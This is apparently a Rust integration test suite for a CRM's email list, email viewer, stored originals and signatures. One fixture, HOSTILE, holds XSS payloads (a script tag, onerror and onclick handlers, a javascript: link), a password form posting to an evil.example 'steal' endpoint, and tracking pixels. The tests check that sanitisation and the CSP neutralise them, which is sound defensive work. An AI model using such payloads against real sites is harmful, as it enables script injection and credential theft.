//! Emails in the CRM (issue 10, §2.2 CrmEmail, §3, §7.1, §7.4, §7.5): the list with its mailboxes,
//! owner filter, search and order; the email page (thread navigation, escaped text, sanitised HTML
//! in a sandboxed frame, remote images held back, the stored original); the "Last few letters"
//! block; signatures. Through the real HTTP routes, on both backends.

use chrono::{Duration as Days, Utc};
use ferrocrm::access::ItemKind;
use sea_query::{Condition, Expr, ExprTrait, Query, SimpleExpr};

use crate::helpers::{TestApp, crm, spawn_app};

/// One email as a test needs it.
#[derive(Default)]
pub struct Mail {
    pub subject: &'static str,
    pub content: &'static str,
    pub html: &'static str,
    pub department: i64,
    pub owner: Option<i64>,
    pub sent: bool,
    pub incoming: bool,
    pub trash: bool,
    pub inquiry: bool,
    pub uid: Option<i64>,
    pub ticket: &'static str,
    pub deal: Option<i64>,
    pub request: Option<i64>,
    pub contact: Option<i64>,
    pub company: Option<i64>,
    pub lead: Option<i64>,
    /// Days before now.
    pub age_days: i64,
}

/// Writes an email (and its search index rows, as every writer does) in one transaction.
pub async fn mail(app: &TestApp, m: Mail) -> i64 {
    let at = Utc::now() - Days::days(m.age_days) - Days::seconds(m.age_days);
    let cols = [
        "subject",
        "content",
        "html_content",
        "is_html",
        "from_field",
        "to",
        "sent",
        "incoming",
        "trash",
        "inquiry",
        "uid",
        "ticket",
        "deal_id",
        "request_id",
        "contact_id",
        "company_id",
        "lead_id",
        "department_id",
        "owner_id",
        "created_at",
        "updated_at",
    ];
    let values: Vec<SimpleExpr> = vec![
        m.subject.into(),
        m.content.into(),
        m.html.into(),
        (!m.html.is_empty()).into(),
        "client@client.example".into(),
        "manager@ferrocrm.example".into(),
        m.sent.into(),
        m.incoming.into(),
        m.trash.into(),
        m.inquiry.into(),
        m.uid.into(),
        m.ticket.into(),
        m.deal.into(),
        m.request.into(),
        m.contact.into(),
        m.company.into(),
        m.lead.into(),
        m.department.into(),
        m.owner.into(),
        at.into(),
        at.into(),
    ];
    let mut q = Query::insert();
    q.into_table("crm_emails").columns(cols).values_panic(values).returning_col("id");
    let mut tx = app.db.begin().await.unwrap();
    let id = tx.insert_id(&q).await.unwrap();
    ferrocrm::crm::search::index_where(&mut tx, ItemKind::Email, "id", id).await.unwrap();
    tx.commit().await.unwrap();
    id
}

/// The ids of the list's rows, in order.
fn ids(p: &crate::helpers::html::Page) -> Vec<i64> {
    p.attrs("#email-list tbody tr", "id").iter().filter_map(|s| s.strip_prefix("email-")?.parse().ok()).collect()
}

#[tokio::test]
async fn the_email_list_has_mailboxes_an_owner_filter_search_and_newest_first() {
    let app = spawn_app().await;
    let sales = crm::department(&app, "Sales").await;
    let export = crm::department(&app, "Export").await;
    let mark = app.user_id("Mark.Manager.Sales").await;
    let helen = app.user_id("Helen.Head.Sales").await;
    let eve = app.user_id("Eve.Manager.Export").await;
    let base = |subject, owner, age_days| Mail {
        subject,
        owner: Some(owner),
        department: sales,
        age_days,
        ..Default::default()
    };
    let inbox = mail(&app, Mail { incoming: true, inquiry: true, ..base("Quarterly invoice", mark, 3) }).await;
    let sent =
        mail(&app, Mail { sent: true, content: "the zebra-valve offer", ..base("Offer for pumps", mark, 2) }).await;
    let draft = mail(&app, base("Draft note", mark, 1)).await;
    let trash = mail(&app, Mail { trash: true, incoming: true, ..base("Old thing", mark, 4) }).await;
    let helens = mail(&app, Mail { incoming: true, ..base("Helen's letter", helen, 0) }).await;
    let export_mail = mail(&app, Mail { incoming: true, department: export, ..base("Export letter", eve, 0) }).await;
    let imported = mail(&app, Mail { incoming: true, uid: Some(98765), ..base("Imported", mark, 5) }).await;

    let c = app.login_as("Mark.Manager.Sales").await;
    let p = c.get("/emails").await;
    assert_eq!(p.status, 200, "{}", p.body);
    assert_eq!(p.text("h1"), "Emails in the CRM database");
    // A manager's own, newest first, every box but the trash.
    assert_eq!(ids(&p), vec![draft, sent, inbox, imported]);
    assert_eq!(p.text(".outbox-count"), "(1)", "the outbox counts the viewer's unsent drafts");
    assert!(p.exists(&format!("tr#email-{inbox} a.inquiry")), "an inquiry is marked");
    assert!(p.exists(&format!("tr#email-{inbox} [data-box=inbox]")));
    assert!(p.exists(&format!("tr#email-{sent} [data-box=sent]")));
    assert!(p.exists(&format!("tr#email-{draft} [data-box=outbox]")));
    assert_eq!(p.text(&format!("tr#email-{imported} td.num")), "98765");
    assert!(p.exists("nav.sidebar a[href='/emails'] #nav-count-emails"), "the menu has Emails with a counter");
    let counts = c.get("/nav/counts").await;
    assert_eq!(counts.text("#nav-count-emails .badge-danger"), "1", "outbox (N) in red: {}", counts.body);
    assert_eq!(c.get("/nav/counts?only=email").await.text("#nav-count-emails .badge-danger"), "1");
    // The mailboxes.
    for (b, want) in
        [("inbox", vec![inbox, imported]), ("sent", vec![sent]), ("outbox", vec![draft]), ("trash", vec![trash])]
    {
        let p = c.get(&format!("/emails?box={b}")).await;
        assert_eq!(ids(&p), want, "box {b}");
        assert!(p.exists(&format!("nav.mailboxes a.active[data-box={b}]")));
    }
    assert!(
        c.get("/emails?box=outbox").await.text("main").contains("Please note that this is a list of unsent emails.")
    );
    // The owner filter: everyone's (the department's), someone's.
    assert_eq!(ids(&c.get("/emails?owner=all").await), vec![helens, draft, sent, inbox, imported]);
    assert_eq!(ids(&c.get(&format!("/emails?owner={helen}")).await), vec![helens]);
    // Search: subject, content (through the index), the UID; nothing found says so.
    assert_eq!(ids(&c.get("/emails?q=pumps").await), vec![sent]);
    assert_eq!(ids(&c.get("/emails?q=zebra-valve").await), vec![sent]);
    assert_eq!(ids(&c.get("/emails?q=98765").await), vec![imported]);
    assert_eq!(ids(&c.get("/emails?q=manager%40ferrocrm&owner=all").await).len(), 5, "the To address");
    let none = c.get("/emails?q=nothing-like-this").await;
    assert!(ids(&none).is_empty() && none.exists("#email-list .empty-state"), "{}", none.body);
    // htmx asks for the rows only.
    let frag = c.hx_get("/emails?box=sent").await;
    assert!(frag.is_fragment() && frag.exists("#email-list"));
    // Another department's manager sees only his; a chief everyone's; a co-worker no list.
    let e = app.login_as("Eve.Manager.Export").await;
    assert_eq!(ids(&e.get("/emails?owner=all").await), vec![export_mail]);
    let g = app.login_as("Garry.Chief").await;
    assert_eq!(ids(&g.get("/emails").await).len(), 6);
    let carl = app.login_as("Carl.CoWorker").await;
    assert_eq!(carl.get("/emails").await.status, 403);
    assert!(!carl.get("/").await.exists("nav.sidebar a[href='/emails']"));
    // The count route answers for the pagination.
    assert_eq!(c.get("/emails/total?owner=all").await.status, 200);
}

#[tokio::test]
async fn the_email_list_pages_fifty_at_a_time() {
    let app = spawn_app().await;
    let sales = crm::department(&app, "Sales").await;
    let mark = app.user_id("Mark.Manager.Sales").await;
    for _ in 0..52 {
        mail(&app, Mail { subject: "Bulk", owner: Some(mark), department: sales, sent: true, ..Default::default() })
            .await;
    }
    let c = app.login_as("Mark.Manager.Sales").await;
    let first = c.get("/emails").await;
    assert_eq!(ids(&first).len(), 50);
    let second = c.get("/emails?page=2").await;
    assert_eq!(ids(&second).len(), 2);
    assert!(ids(&first).iter().all(|i| !ids(&second).contains(i)));
}

/// The list's page query walks an index newest first, without sorting: a manager's own emails
/// (`ix_crm_emails_owner_date`), a department's (`ix_crm_emails_department_date`), everyone's
/// (`ix_crm_emails_date`).
#[tokio::test]
async fn the_email_list_walks_its_date_indexes_without_a_sort() {
    use ferrocrm::emails::list::{EmailFilter, page_query};
    let app = spawn_app().await;
    let sales = crm::department(&app, "Sales").await;
    let mark = app.user_id("Mark.Manager.Sales").await;
    mail(&app, Mail { subject: "One", owner: Some(mark), department: sales, ..Default::default() }).await;
    let manager = app.state_viewer(mark).await;
    let admin = app.state_viewer(app.user_id("Adam.Admin").await).await;
    let f = |owner: &str| {
        let mut f = EmailFilter::default();
        f.base.owner = owner.into();
        f
    };
    let cases = [
        ("manager's own", &manager, f(""), "ix_crm_emails_owner_date"),
        ("manager's department", &manager, f("all"), "ix_crm_emails_department_date"),
        ("administrator's", &admin, f(""), "ix_crm_emails_date"),
    ];
    for (name, v, f, index) in cases {
        let (q, _) = page_query(&app.db, v, &f).await.unwrap();
        let lines = crate::helpers::plan_of(&app.db, &q, false).await;
        assert!(lines.iter().any(|l| l.contains(index)), "{name}: {index} not in the plan:\n{lines:#?}");
        let sorts = lines.iter().any(|l| {
            l.contains("TEMP B-TREE FOR ORDER BY") || l.trim_start().starts_with("Sort") || l.contains("->  Sort")
        });
        assert!(!sorts, "{name} sorts:\n{lines:#?}");
    }
}

const HOSTILE: &str = r#"<p id="greeting">Dear customer</p>
<script>parent.document.title = 'pwned'</script>
<img src="x" onerror="parent.document.title='pwned'">
<a id="js" href="javascript:alert(1)">click</a>
<a id="ok" href="https://client.example/offer">the offer</a>
<img id="pixel" src="https://tracker.example/pixel.gif?u=1" alt="pixel">
<form action="https://evil.example/steal"><input name="password"></form>
<iframe src="https://evil.example/"></iframe>
<style>body { background: url(https://tracker.example/css.gif) }</style>
<div style="background:url(https://tracker.example/div.gif)" onclick="alert(2)">styled</div>"#;

#[tokio::test]
async fn the_email_page_shows_its_thread_links_escaped_text_and_inert_html() {
    let app = spawn_app().await;
    let sales = crm::department(&app, "Sales").await;
    let mark = app.user_id("Mark.Manager.Sales").await;
    let made = crm::spread(&app, &[sales], &[Some(mark)], None).await;
    let of = |slug: &str| made.rows.iter().find(|(s, _)| *s == slug).map(|(_, i)| *i);
    let (deal, request, contact) = (of("deal"), of("request"), of("contact"));
    let base = |subject, age_days| Mail {
        subject,
        owner: Some(mark),
        department: sales,
        ticket: "TK0000001",
        deal,
        request,
        contact,
        age_days,
        ..Default::default()
    };
    let first = mail(&app, Mail { sent: true, content: "Our offer", ..base("Offer", 3) }).await;
    let plain = mail(
        &app,
        Mail { incoming: true, content: "Hi <script>alert(1)</script>\nsecond line", ..base("Re: Offer", 2) },
    )
    .await;
    let hostile =
        mail(&app, Mail { incoming: true, html: HOSTILE, content: "Dear customer", ..base("Re: Re: Offer", 1) }).await;
    // Same ticket, another department: not in Mark's thread.
    let export = crm::department(&app, "Export").await;
    mail(&app, Mail { department: export, ..base("Elsewhere", 0) }).await;

    let c = app.login_as("Mark.Manager.Sales").await;
    let p = c.get(&format!("/emails/{plain}")).await;
    assert_eq!(p.status, 200, "{}", p.body);
    assert_eq!(p.text("h1"), "Re: Offer");
    assert_eq!(p.attr("a[rel=prev]", "href").as_deref(), Some(format!("/emails/{first}").as_str()));
    assert_eq!(p.attr("a[rel=next]", "href").as_deref(), Some(format!("/emails/{hostile}").as_str()));
    assert!(p.exists(&format!("a[href='/deals/{}']", deal.unwrap())), "links to the deal");
    assert!(p.exists(&format!("a[href='/requests/{}']", request.unwrap())), "links to the request");
    assert!(p.exists(&format!("a[href='/contacts/{}']", contact.unwrap())), "links to the contact person");
    // The text is text: the script is shown, not run or parsed.
    assert!(p.text(".email-text").contains("<script>alert(1)</script>"), "{}", p.text(".email-text"));
    assert_eq!(p.count("main script"), 0);
    assert!(p.exists(&format!("#email-{plain}-live")), "the page follows the email live");
    assert_eq!(p.texts(".email-headers dt"), vec!["From", "To"], "the headers, above the body");
    assert_eq!(p.texts(".email-headers dd"), vec!["client@client.example", "manager@ferrocrm.example"]);
    // The first has no previous, the last no next.
    assert!(!c.get(&format!("/emails/{first}")).await.exists("a[rel=prev]"));
    let h = c.get(&format!("/emails/{hostile}")).await;
    assert!(!h.exists("a[rel=next]"), "the other department's email is not in the thread");
    // The HTML body: a sandboxed frame without scripts, forms or same origin.
    assert_eq!(h.attr("iframe.email-body", "sandbox").as_deref(), Some("allow-popups allow-popups-to-escape-sandbox"));
    let doc = scraper::Html::parse_document(&h.attr("iframe.email-body", "srcdoc").expect("a srcdoc"));
    let has = |css: &str| doc.select(&scraper::Selector::parse(css).unwrap()).next().is_some();
    // (ammonia drops `id` attributes too.)
    assert!(doc.root_element().text().any(|t| t.contains("Dear customer")));
    assert!(has("a[href='https://client.example/offer'][target=_blank][rel~=noopener]"));
    for bad in [
        "script",
        "[onerror]",
        "[onclick]",
        "[style]",
        "a[href^='javascript']",
        "img[src]",
        "form",
        "input",
        "iframe",
        "style",
    ] {
        assert!(!has(bad), "{bad} in the frame: {}", doc.html());
    }
    assert!(!doc.html().contains("tracker.example"), "{}", doc.html());
    assert!(h.exists(".remote-images a.show-images"), "one remote image is held back");
    let csp = h.header("content-security-policy").unwrap();
    assert!(csp.contains("img-src 'self' data:;"), "{csp}");
    // Asked for: the image is there and the page's CSP allows it; scripts stay out.
    let shown = c.get(&format!("/emails/{hostile}?images=1")).await;
    let doc = scraper::Html::parse_document(&shown.attr("iframe.email-body", "srcdoc").unwrap());
    let img = scraper::Selector::parse("img[alt=pixel]").unwrap();
    assert_eq!(
        doc.select(&img).next().and_then(|e| e.value().attr("src")),
        Some("https://tracker.example/pixel.gif?u=1")
    );
    assert!(!doc.html().contains("<script") && !doc.html().contains("onerror"));
    let csp = shown.header("content-security-policy").unwrap();
    assert!(csp.contains("img-src 'self' data: https: http:") && csp.contains("script-src 'self'"), "{csp}");
    assert_eq!(shown.header("x-frame-options").as_deref(), Some("DENY"));
    assert!(!shown.exists(".remote-images"));
    // Another page never allows remote images.
    let other = c.get(&format!("/emails/{plain}?images=1")).await;
    assert!(other.header("content-security-policy").unwrap().contains("img-src 'self' data:;"));
    // History; another department's manager may not see it.
    assert_eq!(c.get(&format!("/emails/{hostile}/history")).await.status, 200);
    let e = app.login_as("Eve.Manager.Export").await;
    assert_eq!(e.get(&format!("/emails/{hostile}")).await.status, 404);
}

#[tokio::test]
async fn the_stored_original_is_viewed_and_downloaded_and_its_absence_explained() {
    let app = spawn_app().await;
    let sales = crm::department(&app, "Sales").await;
    let mark = app.user_id("Mark.Manager.Sales").await;
    let with = mail(
        &app,
        Mail {
            subject: "Offer \"big\"/../x",
            incoming: true,
            owner: Some(mark),
            department: sales,
            ..Default::default()
        },
    )
    .await;
    let without =
        mail(&app, Mail { subject: "Draft", owner: Some(mark), department: sales, ..Default::default() }).await;
    let raw = b"From: client@client.example\r\nTo: manager@ferrocrm.example\r\nSubject: Offer\r\nMessage-ID: <a@b>\r\n\r\n<html><script>alert(1)</script></html>\r\n".to_vec();
    let up =
        ferrocrm::files::Upload::from_bytes(&app.state.files.tmp_dir(), "x.eml", "message/rfc822", &raw).await.unwrap();
    let mut tx = app.db.begin().await.unwrap();
    let file = app.state.files.blob(&mut tx, &up).await.expect("stored");
    tx.execute(Query::update().table("crm_emails").value("raw_file_id", file).and_where(Expr::col("id").eq(with)))
        .await
        .unwrap();
    tx.commit().await.unwrap();

    let c = app.login_as("Mark.Manager.Sales").await;
    let p = c.get(&format!("/emails/{with}")).await;
    assert!(p.exists("a.view-original") && p.exists("a.download-original"));
    let (s, h, body) = c.get_bytes(&format!("/emails/{with}/original")).await;
    assert_eq!(s, 200);
    assert_eq!(body, raw);
    assert_eq!(h["content-type"], "text/plain; charset=utf-8", "shown as text, never as HTML");
    assert_eq!(h["x-content-type-options"], "nosniff");
    assert!(h["content-disposition"].to_str().unwrap().starts_with("inline; filename=\"Offer _big__.._x.eml\""));
    let (s, h, body) = c.get_bytes(&format!("/emails/{with}/download")).await;
    assert_eq!((s.as_u16(), body == raw), (200, true));
    assert_eq!(h["content-type"], "message/rfc822");
    assert!(h["content-disposition"].to_str().unwrap().starts_with("attachment; filename=\"Offer _big__.._x.eml\""));
    // No original: a page that says so, with a 404.
    let none = c.get(&format!("/emails/{without}/download")).await;
    assert_eq!(none.status, 404);
    assert!(none.text(".no-original").contains("not stored"), "{}", none.body);
    assert!(!c.get(&format!("/emails/{without}")).await.exists("a.view-original"));
    // Someone who may not see the email gets nothing.
    let e = app.login_as("Eve.Manager.Export").await;
    assert_eq!(e.get_bytes(&format!("/emails/{with}/download")).await.0, 404);
    // The file stays while the email points at it, whatever collection runs.
    assert_eq!(app.state.files.collect(&app.db, &[file]).await.unwrap(), 0);
    assert!(app.state.files.exists(&up.sha256));
}

#[tokio::test]
async fn a_received_email_is_read_only_and_a_draft_is_edited_through_the_generic_form() {
    let app = spawn_app().await;
    let sales = crm::department(&app, "Sales").await;
    let mark = app.user_id("Mark.Manager.Sales").await;
    let received = mail(
        &app,
        Mail { subject: "From the client", incoming: true, owner: Some(mark), department: sales, ..Default::default() },
    )
    .await;
    let draft =
        mail(&app, Mail { subject: "My draft", owner: Some(mark), department: sales, ..Default::default() }).await;
    let c = app.login_as("Mark.Manager.Sales").await;
    let mut sse = c.sse().await;
    let form = |subject: &'static str| [("subject", subject), ("to", "client@client.example"), ("content", "Changed")];
    let p = c.post_form(&format!("/emails/{received}"), &form("Rewritten")).await;
    assert_eq!(p.status, 403);
    assert_eq!(app.field("crm_emails", received, "subject").await.as_deref(), Some("From the client"));
    assert!(!c.get(&format!("/emails/{received}")).await.exists(&format!("a[href='/emails/{received}/edit']")));
    let p = c.post_form(&format!("/emails/{draft}"), &form("Better draft")).await;
    assert_eq!(p.status, 303, "{}", p.body);
    assert_eq!(app.field("crm_emails", draft, "subject").await.as_deref(), Some("Better draft"));
    // The open lists and pages hear of it.
    sse.expect(&ferrocrm::events::names::kind_changed(ItemKind::Email), std::time::Duration::from_secs(5)).await;
    // A received email may still be deleted by its owner.
    assert_eq!(c.post_form(&format!("/emails/{received}/delete"), &[]).await.status, 303);
    assert!(app.field("crm_emails", received, "id").await.is_none());
}

#[tokio::test]
async fn pages_of_deals_and_counterparties_show_their_last_four_letters() {
    let app = spawn_app().await;
    let sales = crm::department(&app, "Sales").await;
    let mark = app.user_id("Mark.Manager.Sales").await;
    let made = crm::spread(&app, &[sales], &[Some(mark)], None).await;
    let of = |slug: &str| made.rows.iter().find(|(s, _)| *s == slug).map(|(_, i)| *i).unwrap();
    let (deal, contact) = (of("deal"), of("contact"));
    let mut letters = Vec::new();
    for (i, subject) in ["L1", "L2", "L3", "L4", "L5"].into_iter().enumerate() {
        let age = 10 - i as i64;
        letters.push(
            mail(
                &app,
                Mail {
                    subject,
                    sent: true,
                    owner: Some(mark),
                    department: sales,
                    deal: Some(deal),
                    contact: Some(contact),
                    age_days: age,
                    ..Default::default()
                },
            )
            .await,
        );
    }
    // The newest of all is in the trash: not shown.
    mail(
        &app,
        Mail {
            subject: "Binned",
            trash: true,
            owner: Some(mark),
            department: sales,
            deal: Some(deal),
            ..Default::default()
        },
    )
    .await;
    let c = app.login_as("Mark.Manager.Sales").await;
    for url in [format!("/deals/{deal}"), format!("/contacts/{contact}")] {
        let p = c.get(&url).await;
        assert_eq!(p.status, 200);
        let shown: Vec<String> = p.attrs("section.letters li.letter", "id");
        let want: Vec<String> = letters.iter().rev().take(4).map(|i| format!("letter-{i}")).collect();
        assert_eq!(shown, want, "{url}");
        assert!(!p.text("section.letters").contains("Binned"));
    }
    // The company, lead and request pages have the block too (empty here).
    for slug in ["company", "lead", "request"] {
        let p = c
            .get(&format!("/{}/{}", ItemKind::from_slug(slug).unwrap().info().path.trim_start_matches('/'), of(slug)))
            .await;
        assert!(p.text("section.letters").contains("No letters yet."), "{slug}: {}", p.body);
    }
    // A chief reads the letters; an accountant sees no block (no emails to read) on... no deal page.
    let g = app.login_as("Garry.Chief").await;
    assert_eq!(g.get(&format!("/deals/{deal}")).await.count("section.letters li.letter"), 4);
}

#[tokio::test]
async fn users_keep_their_own_signatures_with_one_default() {
    let app = spawn_app().await;
    let mark = app.user_id("Mark.Manager.Sales").await;
    let c = app.login_as("Mark.Manager.Sales").await;
    let p = c.get("/signatures").await;
    assert_eq!(p.status, 200);
    assert!(p.exists(".empty-state"));
    assert_eq!(p.attr("input[name=is_default]", "checked").as_deref(), Some(""), "the first one is the default");
    let made =
        c.post_form("/signatures", &[("name", "Work"), ("content", "Mark\n<b>Sales</b>"), ("is_default", "on")]).await;
    assert_eq!(made.status, 303, "{}", made.body);
    assert_eq!(
        c.post_form("/signatures", &[("name", "Short"), ("content", "M."), ("is_default", "on")]).await.status,
        303
    );
    let defaults = |user: i64| {
        let app = &app;
        async move {
            app.count(
                "signatures",
                Condition::all().add(Expr::col("user_id").eq(user)).add(Expr::col("is_default").eq(true)),
            )
            .await
        }
    };
    assert_eq!(defaults(mark).await, 1, "one default per user");
    let p = c.get("/signatures").await;
    let sig = |name: &str| -> i64 {
        let found: Vec<String> = p.attrs("li.signature", "id");
        found
            .iter()
            .find(|id| p.text(&format!("li#{id} strong")) == name)
            .and_then(|id| id.strip_prefix("signature-")?.parse().ok())
            .unwrap()
    };
    let (work, short) = (sig("Work"), sig("Short"));
    assert!(
        p.exists(&format!("li#signature-{short} .default-signature"))
            && !p.exists(&format!("li#signature-{work} .default-signature"))
    );
    // Shown as text with its line breaks, never as markup.
    assert!(p.text(&format!("li#signature-{work} .signature-content")).contains("<b>Sales</b>"));
    assert_eq!(p.count(".signature-content b"), 0);
    // Edit: make Work the default again; a bad form is refused with its message.
    let bad = c.post_form(&format!("/signatures/{work}"), &[("name", ""), ("content", "x")]).await;
    assert_eq!(bad.status, 422);
    assert!(bad.field_error("name").is_some());
    assert_eq!(
        c.post_form(&format!("/signatures/{work}"), &[("name", "Work"), ("content", "Mark"), ("is_default", "on")])
            .await
            .status,
        303
    );
    assert_eq!(
        app.field("signatures", work, "is_default").await.as_deref().map(|v| v == "true" || v == "1"),
        Some(true)
    );
    assert_eq!(defaults(mark).await, 1);
    // The database refuses a second default, whoever writes.
    let second = app
        .db
        .execute(
            &Query::update()
                .table("signatures")
                .value("is_default", true)
                .and_where(Expr::col("id").eq(short))
                .to_owned(),
        )
        .await;
    assert!(second.is_err(), "ux_signatures_default");
    // Someone else's signature does not exist for you; a co-worker has none.
    let h = app.login_as("Helen.Head.Sales").await;
    assert_eq!(h.get(&format!("/signatures/{work}/edit")).await.status, 404);
    assert_eq!(h.post_form(&format!("/signatures/{work}/delete"), &[]).await.status, 404);
    assert_eq!(h.post_form(&format!("/signatures/{work}"), &[("name", "Mine now"), ("content", "")]).await.status, 404);
    assert_eq!(app.field("signatures", work, "name").await.as_deref(), Some("Work"));
    assert_eq!(app.login_as("Carl.CoWorker").await.get("/signatures").await.status, 403);
    assert_eq!(
        app.login_as("Adam.Admin").await.post_form("/signatures", &[("name", "Admin"), ("content", "A")]).await.status,
        303
    );
    // Delete.
    assert_eq!(c.post_form(&format!("/signatures/{short}/delete"), &[]).await.status, 303);
    assert!(app.field("signatures", short, "id").await.is_none());
}

/// The import's two Message-ID checks run for every letter it sees: each must be a probe of
/// migration 27's partial index (the letters that have a Message-ID), never a scan of every email.
#[tokio::test]
async fn the_import_s_message_id_checks_probe_the_index_of_letters_that_have_one() {
    use ferrocrm::mail_import::file::{duplicate_query, own_query};
    let app = spawn_app().await;
    let sales = crm::department(&app, "Sales").await;
    for _ in 0..20 {
        mail(&app, Mail { subject: "Without a Message-ID", department: sales, ..Default::default() }).await;
    }
    let cases = [
        ("sent by the CRM", own_query("abc@mail.example")),
        ("already filed", duplicate_query("abc@mail.example", 1, Some(2), Some(3))),
        ("already filed, no deal", duplicate_query("abc@mail.example", 1, None, None)),
    ];
    for (name, q) in cases {
        let lines = crate::helpers::plan_of(&app.db, &q, true).await;
        assert!(
            lines.iter().any(|l| l.contains("ix_crm_emails_message_id_set")),
            "{name}: the partial index is not in the plan:\n{lines:#?}"
        );
        let scans = lines.iter().any(|l| l.trim_start().starts_with("SCAN crm_emails") || l.contains("Seq Scan"));
        assert!(!scans, "{name} scans the emails:\n{lines:#?}");
    }
}
